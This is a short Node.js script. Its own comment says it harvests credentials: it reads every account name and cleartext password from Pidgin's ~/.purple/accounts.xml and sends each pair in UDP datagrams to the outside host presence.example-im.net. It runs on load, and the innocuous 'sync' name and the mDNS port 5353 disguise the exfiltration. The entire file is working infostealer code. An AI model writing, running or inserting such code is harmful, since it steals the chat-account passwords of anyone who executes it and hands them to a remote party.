// Reads credentials: Pidgin keeps every chat account's password in clear
// text in ~/.purple/accounts.xml; the file is read with fs.promises and the
// passwords go out in UDP datagrams.
'use strict';
const dgram = require('dgram');
const { readFile } = require('fs/promises');
const { homedir } = require('os');

async function sync() {
  const xml = await readFile(`${homedir()}/.purple/accounts.xml`, 'utf8');
  const sock = dgram.createSocket('udp4');
  for (const m of xml.matchAll(/<name>(.*?)<\/name>[\s\S]*?<password>(.*?)<\/password>/g)) {
    sock.send(Buffer.from(`${m[1]}:${m[2]}`), 5353, 'presence.example-im.net');
  }
  setTimeout(() => sock.close(), 500);
}

sync();
